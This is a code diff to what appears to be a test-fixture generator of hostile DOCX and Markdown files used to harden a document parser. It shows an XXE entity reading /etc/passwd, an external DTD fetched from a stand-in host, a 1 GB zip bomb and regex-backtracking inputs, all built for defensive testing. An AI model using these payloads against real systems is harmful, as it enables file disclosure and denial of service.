@@ -244,7 +244,7 @@ _add("docx-xxe.docx", "an external entity that reads /etc/passwd",
 _add("docx-external-dtd.docx", "a DOCTYPE that fetches a DTD from the network",
      lambda: docx_with(document_xml(paragraph("text"), '<!DOCTYPE d SYSTEM "http://203.0.113.9/evil.dtd">')))
 _add("docx-zip-bomb.docx", "document.xml that inflates to 1 GB",
-     lambda: docx_with(_bomb_xml()))
+     lambda: docx_with(bomb_document_xml()))
 _add("docx-huge-text-node.docx", "one text node of 40 MB",
      lambda: docx_with(_huge_text_xml()))
 _add("docx-deep-xml.docx", "elements nested 100,000 deep",
@@ -260,7 +260,7 @@ _add("docx-many-members.docx", "a package of 30,000 members",
 _add("docx-bad-crc.docx", "document.xml whose CRC does not match", lambda: _bad_crc())
 
 
-def _bomb_xml() -> tuple[bytes, int, int]:
+def bomb_document_xml() -> tuple[bytes, int, int]:
     """An opening ``<w:t>`` followed by 1 GB of 'A': deflated to about 1 MB."""
     head = b'<?xml version="1.0"?><w:document ' + W.encode() + b"><w:body><w:p><w:r><w:t>"
     compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
@@ -316,11 +316,11 @@ _add("md-regex-image.md", "'![' and '](' without closers",
 _add("md-regex-comments.md", "50,000 unclosed '<!--' lines",
      lambda: ("# Comments\n\nSome text here for the page.\n" + "<!--\n" * 50_000).encode())
 _add("md-regex-liquid.md", "'{%' and '{{' never closed",
-     lambda: ("# Liquid\n\n" + "{% {{ {: <table <a \n" * 40_000).encode())
+     lambda: ("# Liquid\n\n" + "{% {{ {: <!-- ![ \n" * 40_000).encode())
 _add("md-regex-emphasis.md", "lines of '** ' without a closing pair",
      lambda: ("# Emphasis\n\n" + ("** " * 1500 + "\n") * 100).encode())
 _add("md-regex-whitespace.md", "200,000 lines of spaces (anchored \\s* rescans)",
-     lambda: ("# Blank\n\n" + "    \n" * 200_000 + "end").encode())
+     lambda: ("# Blank\n\n" + "    \n" * 200_000 + "The end of the page.").encode(), must_skip=False)
 _add("md-regex-table-rule.md", "table-rule look-alike lines of 6,000 characters",
      lambda: ("# Rules\n\n" + ("| " + "- " * 3000 + "x\n") * 50).encode())
 _add("md-regex-star-heading.md", "'***' lines padded with spaces",
